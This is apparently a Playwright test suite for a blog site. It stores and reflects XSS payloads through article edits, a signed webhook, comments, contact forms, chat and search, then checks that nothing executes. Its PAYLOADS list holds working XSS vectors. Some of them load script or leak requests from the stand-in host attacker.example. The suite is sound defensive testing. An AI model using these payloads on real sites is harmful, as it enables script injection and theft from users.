import { createHmac } from 'node:crypto';
import type { BrowserContext, Page } from 'playwright-core';
import { recordSecurity } from '../../scripts/lib/security-ledger.mjs';
import { recordDialogs } from '../support/browser.js';
import { useProduct } from '../support/suite.js';

const SECRET = 'automation-secret-for-the-xss-tests';
const ATTACKER = 'attacker.example';

/** Each payload tries to run script (setting window.__xss or opening a dialog) or to reach the attacker's host. */
const PAYLOADS = [
  '<script>window.__xss=1;alert(1)</script>',
  '<img src=x onerror="window.__xss=1;alert(1)">',
  '<svg onload="window.__xss=1"><script>window.__xss=1</script></svg>',
  '<a href="javascript:window.__xss=1;alert(1)">click me</a>',
  '<a href="  JaVaScRiPt:alert(1)">spaced</a>',
  '<math><mtext><table><mglyph><style><img src=x onerror="window.__xss=1">',
  '<iframe srcdoc="<script>parent.__xss=1;alert(1)</script>"></iframe>',
  '<div style="background:url(javascript:alert(1));width:expression(alert(1))">styled</div>',
  '<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
  '<svg><style><img src=x onerror=window.__xss=1></style></svg>',
  '<details open ontoggle="window.__xss=1;alert(1)">d</details>',
  '<object data="javascript:alert(1)"></object><embed src="javascript:alert(1)">',
  '<form action="javascript:alert(1)"><button>go</button></form>',
  '"><script src=http://attacker.example/x.js></script>',
  `<img src="http://${ATTACKER}/pixel.gif?leak=1">`,
  `<link rel=stylesheet href=http://${ATTACKER}/x.css><base href="http://${ATTACKER}/">`,
  '{{constructor.constructor("window.__xss=1;alert(1)")()}}',
  '${alert(1)}<%= 7*7 %>#{7*7}',
  '</textarea></title><script>window.__xss=1</script>',
  '\u202e<img src=x onerror=window.__xss=1>',
];

/** What a page must never show after rendering stored payloads. */
async function injectedTraces(page: Page): Promise<string[]> {
  return page.evaluate(() => {
    const traces: string[] = [];
    if ((window as { __xss?: unknown }).__xss !== undefined) traces.push('window.__xss was set');
    for (const element of Array.from(document.querySelectorAll('body *'))) {
      for (const attribute of Array.from(element.attributes)) {
        if (/^on/i.test(attribute.name)) traces.push(`<${element.tagName.toLowerCase()} ${attribute.name}>`);
        if (/^\s*javascript:/i.test(attribute.value)) traces.push(`<${element.tagName.toLowerCase()} ${attribute.name}="${attribute.value}">`);
      }
    }
    for (const selector of [
      'iframe[srcdoc]',
      'object',
      'embed',
      'base',
      'body script:not([src]):not([type="application/json"]):not([type="application/ld+json"])',
      'script[src*="attacker"]',
      'link[href*="attacker"]',
    ]) {
      if (document.querySelector(selector)) traces.push(selector);
    }
    return traces;
  });
}

describe('stored and reflected XSS, rendered in Chromium', () => {
  const suite = useProduct('security-xss', {
    AUTOMATION_WEBHOOK_SECRET: SECRET,
    // A webhook that never answers: the approved topic waits for our signed delivery instead of the built-in generator.
    AUTOMATION_WEBHOOK_URL: 'http://127.0.0.1:9/hook',
  });
  let tried = 0;
  let succeeded = 0;
  afterAll(() => recordSecurity('xss-browser', { attacksTried: tried, attacksSucceeded: succeeded }));

  let admin: { cookie: string; headers: Record<string, string> };
  const api = async (path: string, init: RequestInit = {}) => {
    const response = await fetch(`${suite.product.url}${path}`, {
      ...init,
      headers: { 'content-type': 'application/json', ...(init.headers as Record<string, string>) },
    });
    const body = await response.text();
    if (!response.ok) throw new Error(`${init.method ?? 'GET'} ${path}: ${response.status} ${body}`);
    return body ? JSON.parse(body) : null;
  };
  const adminApi = (path: string, body?: unknown, method = body === undefined ? 'GET' : 'POST') =>
    api(path, { method, headers: admin.headers, body: body === undefined ? undefined : JSON.stringify(body) });

  beforeAll(async () => {
    const login = await fetch(`${suite.product.url}/api/admin/login`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ username: suite.product.admin.username, password: suite.product.admin.password }),
    });
    const cookie = /ai_mind_admin=([^;]+)/.exec(login.headers.get('set-cookie') ?? '')![1]!;
    const { csrfToken } = (await login.json()) as { csrfToken: string };
    admin = { cookie, headers: { cookie: `ai_mind_admin=${cookie}`, 'x-csrf-token': csrfToken } };
  });

  interface Visit {
    context: BrowserContext;
    page: Page;
    dialogs: string[];
    attackerRequests: string[];
  }

  /**
   * A fresh browser context (signed in when asked) that records dialogs, and any request that would
   * leave for the attacker's host (aborted). A request the CSP blocks never leaves the browser.
   */
  async function visit(url: string, signedIn = false): Promise<Visit> {
    const context = await suite.browser.newContext({ viewport: { width: 1280, height: 900 } });
    if (signedIn) await context.addCookies([{ name: 'ai_mind_admin', value: admin.cookie, domain: new URL(suite.product.url).hostname, path: '/api' }]);
    const attackerRequests: string[] = [];
    await context.route(
      (url) => url.hostname === ATTACKER,
      (route) => {
        attackerRequests.push(route.request().url());
        return route.abort();
      },
    );
    const page = await context.newPage();
    const dialogs = recordDialogs(page);
    await page.goto(url, { waitUntil: 'load' });
    return { context, page, dialogs, attackerRequests };
  }

  /** Counts `attacks` payloads as tried on this page and fails with what got through. */
  async function expectNothingRan(visited: Visit, attacks: number, what: string) {
    await visited.page.waitForLoadState('networkidle');
    const traces = [
      ...(await injectedTraces(visited.page)),
      ...visited.dialogs.map((d) => `dialog: ${d}`),
      ...visited.attackerRequests.map((u) => `request: ${u}`),
    ];
    tried += attacks;
    if (traces.length > 0) succeeded += attacks;
    await visited.context.close();
    expect({ what, traces }).toEqual({ what, traces: [] });
  }

  /** Pages opened before any payload is stored, so every violation would be the product's own. */
  it('the pages work under the Content-Security-Policy: no violation on home, article, category, search, contact, chat, admin panel and queue dashboard', async () => {
    const [article] = (await api('/api/articles?approved=true&limit=1')) as { slug: string; category: string }[];
    const pages: [string, boolean, (page: Page) => Promise<unknown>][] = [
      [
        '/',
        false,
        (page) =>
          page
            .getByRole('button', { name: 'Chat with the AI Mind' })
            .click()
            .then(() => page.getByRole('dialog', { name: 'Chat with the AI Mind' }).waitFor()),
      ],
      [`/article/${article!.slug}`, false, (page) => page.getByTestId('article-content').waitFor()],
      [`/category/${encodeURIComponent(article!.category)}`, false, (page) => page.getByRole('heading').first().waitFor()],
      ['/?search=energy', false, (page) => page.getByRole('heading', { name: /Search results for/ }).waitFor()],
      ['/contact', false, (page) => page.getByRole('textbox').first().waitFor()],
      [
        '/admin',
        true,
        async (page) => {
          for (const tab of ['Trending Topics', 'Blog Workflow', 'Article Management', 'Contact Messages']) await page.getByRole('tab', { name: tab }).click();
        },
      ],
      ['/api/admin/queues', true, (page) => page.getByText('The AI Mind queues').first().waitFor()],
    ];
    const report: string[] = [];
    for (const [path, signedIn, use] of pages) {
      const context = await suite.browser.newContext({ viewport: { width: 1280, height: 900 } });
      if (signedIn) await context.addCookies([{ name: 'ai_mind_admin', value: admin.cookie, domain: new URL(suite.product.url).hostname, path: '/api' }]);
      // Runs before the page's own scripts, and is not itself subject to the page's CSP.
      await context.addInitScript(() => {
        const seen: string[] = [];
        (window as { __cspViolations?: string[] }).__cspViolations = seen;
        document.addEventListener('securitypolicyviolation', (event) =>
          seen.push(`${event.violatedDirective} ${event.blockedURI} at ${event.sourceFile}:${event.lineNumber}:${event.columnNumber}`),
        );
      });
      const page = await context.newPage();
      const errors: string[] = [];
      page.on('pageerror', (error) => errors.push(`page error: ${error.message}`));
      page.on('console', (message) => /Content Security Policy/i.test(message.text()) && errors.push(`console: ${message.text()}`));
      const response = await page.goto(`${suite.product.url}${path}`, { waitUntil: 'load' });
      expect(response!.headers()['content-security-policy']).toContain("script-src 'self'");
      await use(page);
      await page.waitForLoadState('networkidle');
      const violations = await page.evaluate(() => (window as { __cspViolations?: string[] }).__cspViolations ?? []);
      report.push(...[...violations, ...errors].map((line) => `${path}: ${line}`));
      await context.close();
    }
    expect(report).toEqual([]);
  });

  it('article content from the admin edit: sanitized when stored, inert on the article page', async () => {
    const [article] = (await api('/api/articles?approved=true&limit=1')) as { id: number; slug: string; title: string }[];
    const content = `<p>XSS probe article.</p>${PAYLOADS.map((p) => `<p>${p}</p>`).join('')}`;
    await adminApi(`/api/admin/blogs/${article!.id}`, { title: article!.title, content }, 'PUT');

    const page = await visit(`${suite.product.url}/article/${article!.slug}`);
    await page.page.getByText('XSS probe article.').waitFor();
    await expectNothingRan(page, PAYLOADS.length, 'article page');
  });

  it('a blog from the signed automation intake: inert in the admin draft preview and once published', async () => {
    const [topic] = (await adminApi('/api/trending-topics')) as { id: number; topic: string; category: string; sourceUrl: string | null }[];
    await adminApi('/api/admin/approve-topic', { topicId: topic!.id, topic: topic!.topic, category: topic!.category, sourceUrl: topic!.sourceUrl });
    const approved = ((await adminApi('/api/admin/approved-topics')) as { id: number; topic: string }[]).find((t) => t.topic === topic!.topic)!;
    const body = JSON.stringify({
      approvedTopicId: approved.id,
      title: 'Automation <script>window.__xss=1</script> probe',
      content: `<h2>Automation probe</h2>${PAYLOADS.join('\n')}<p>${'Enough words to count as an article body. '.repeat(8)}</p>`,
      metaDescription: '"><script>window.__xss=1</script>',
      aiCommentary: PAYLOADS.join(' '),
      sourceUrl: 'https://example.com/"><script>alert(1)</script>',
    });
    const timestamp = Math.floor(Date.now() / 1000);
    const signature = `sha256=${createHmac('sha256', SECRET).update(`${timestamp}.${body}`).digest('hex')}`;
    const { articleId } = (await api('/api/automation/blog', {
      method: 'POST',
      body,
      headers: { 'x-ai-mind-timestamp': String(timestamp), 'x-ai-mind-signature': signature },
    })) as { articleId: number };
    const panel = await visit(`${suite.product.url}/admin`, true);
    await panel.page.getByRole('tab', { name: 'Article Management' }).click();
    const card = panel.page.getByTestId('admin-article').filter({ hasText: 'Automation' }).first();
    await card.getByRole('button', { name: 'Preview', exact: true }).click();
    await panel.page.getByTestId('draft-preview').getByRole('heading', { name: 'Automation probe' }).waitFor();
    await expectNothingRan(panel, PAYLOADS.length, 'admin draft preview');

    await adminApi('/api/admin/approve-blog', { blogId: articleId });
    const slug = ((await adminApi('/api/admin/articles')) as { id: number; slug: string }[]).find((a) => a.id === articleId)!.slug;

    const page = await visit(`${suite.product.url}/article/${slug}`);
    await page.page.getByRole('heading', { name: 'Automation probe' }).waitFor();
    await expectNothingRan(page, PAYLOADS.length + 3, 'automation article page');
  });

  it('comment names and text, and the AI replies quoting them: inert on the article page', async () => {
    const [article] = (await api('/api/articles?approved=true&limit=1')) as { id: number; slug: string }[];
    // Five comments per client per window: each carries several payloads, one in the name.
    const chunks = [0, 1, 2, 3, 4].map((i) => PAYLOADS.filter((_, index) => index % 5 === i));
    for (const [i, chunk] of chunks.entries()) {
      await api(`/api/articles/${article!.id}/comments`, {
        method: 'POST',
        body: JSON.stringify({ authorName: chunk[0]!.slice(0, 80), content: `Comment probe ${i} ${chunk.join(' ')}` }),
      });
    }
    const page = await visit(`${suite.product.url}/article/${article!.slug}`);
    await page.page.getByText('Comment probe 4', { exact: false }).first().waitFor();
    await expectNothingRan(page, PAYLOADS.length + chunks.length, 'comments');
  });

  it('contact fields: inert in the admin contact list', async () => {
    for (const [i, chunk] of [PAYLOADS.slice(0, 10), PAYLOADS.slice(10)].entries()) {
      await api('/api/contact', {
        method: 'POST',
        body: JSON.stringify({ name: chunk[0], email: 'probe@example.com', subject: `Contact probe ${i} ${chunk[1]}`, message: chunk.join('\n') }),
      });
    }
    const panel = await visit(`${suite.product.url}/admin`, true);
    await panel.page.getByRole('tab', { name: 'Contact Messages' }).click();
    await panel.page.getByText('Contact probe 1', { exact: false }).first().waitFor();
    await expectNothingRan(panel, PAYLOADS.length + 4, 'admin contact list');
  });

  it('chat messages typed into the widget, and the answers: inert', async () => {
    const page = await visit(suite.product.url);
    await page.page.getByRole('button', { name: 'Chat with the AI Mind' }).click();
    const box = page.page.getByRole('textbox', { name: 'Message' });
    for (const message of [PAYLOADS.slice(0, 10).join(' '), PAYLOADS.slice(10).join(' ')]) {
      const answers = await page.page.locator('[data-sender="ai"]').count();
      await box.fill(message);
      await page.page.keyboard.press('Enter');
      await page.page.locator('[data-sender="ai"]').nth(answers).waitFor();
    }
    await expectNothingRan(page, PAYLOADS.length, 'chat');
  });

  it('search terms: inert on the search page and in its server-rendered head', async () => {
    const failures: string[] = [];
    for (const payload of PAYLOADS) {
      const page = await visit(`${suite.product.url}/?search=${encodeURIComponent(payload.slice(0, 200))}`);
      await page.page.getByRole('heading', { name: /Search results for/ }).waitFor();
      try {
        await expectNothingRan(page, 1, `search ${payload}`);
      } catch (error) {
        failures.push((error as Error).message);
      }
    }
    expect(failures).toEqual([]);
  });
});
